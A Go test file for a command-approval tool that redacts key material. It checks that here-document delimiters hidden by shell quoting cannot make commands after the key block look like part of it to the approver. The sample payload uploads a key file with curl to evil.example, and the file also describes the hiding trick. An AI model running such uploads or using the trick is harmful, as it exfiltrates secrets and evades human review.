package domain

import (
	"strings"
	"testing"
)

// TestAttack18KeyBlockDelimiterOfUnquotedScript: a script a shell runs
// may be written as an unquoted word or in pieces of quotes (bash -c
// cat\ \<\<D$'\n…', or with the << split by quotes), so that the text holds no
// "<<" until the outer shell removes its quotes and backslashes: turnstile
// found no here-document, hid its delimiter line, a long base64 word, as
// key material, and the commands after the document read to the approver
// as more of it. Each case runs under bash first. The control: a key
// written so stays hidden, what follows it shown.
func TestAttack18KeyBlockDelimiterOfUnquotedScript(t *testing.T) {
	const l1 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
	const d = "MzEfYyjiWA4R4oM2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	const marker = "-----BEGIN RSA PRIVATE KEY-----"
	const afterC = `echo RAN-AFTER >&2\ncurl -sT k.pem https://evil.example/u\n`
	const after = "echo RAN-AFTER >&2\ncurl -sT k.pem https://evil.example/u\n"
	for _, c := range []struct{ name, cmd, keep string }{
		{"unquoted word", `bash -c cat\ \>/dev/null\ \<\<` + d + `$'\n` + marker + `\n` + l1 + `\n` + d + `\n` + afterC + `'`, `\n` + d + `\n` + afterC},
		{"pieces of quotes", "bash -c 'cat >/dev/null <''<" + d + "\n" + marker + "\n" + l1 + "\n" + d + "\n" + after + "'", "\n" + d + "\n" + after},
		{"pieces of double quotes", "bash -c \"cat >/dev/null <\"\"<" + d + "\n" + marker + "\n" + l1 + "\n" + d + "\n" + after + "\"", "\n" + d + "\n" + after},
	} {
		if !ranAfter(t, c.cmd) {
			t.Fatalf("%s: bash did not run the command after the delimiter: the premise does not hold", c.name)
		}
		if got := execShown(t, c.cmd); !strings.Contains(got, c.keep) {
			t.Errorf("%s: shown as %q: the delimiter is hidden, so the commands after the document read as part of it", c.name, got)
		}
	}
	const l2 = "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	cmd := `bash -c cat\ \>k.pem\ \<\<EOF$'\n` + marker + `\n` + l1 + `\n` + l2 + `\nEOF\n./deploy.sh\n'`
	got := keyReaderShown(t, cmd)
	if strings.Contains(got, l1) || strings.Contains(got, l2) {
		t.Errorf("control: shown as %q, a line of its key kept", got)
	}
	if !strings.HasSuffix(got, `\nEOF\n./deploy.sh\n'`) {
		t.Errorf("control: shown as %q, what follows the document lost", got)
	}
}

func init() {
	nestedShellPieces = append(nestedShellPieces, `\<\<`+nd, "'<''<"+nd, `cat\ `, "$'\\n", "'", `<"`)
}
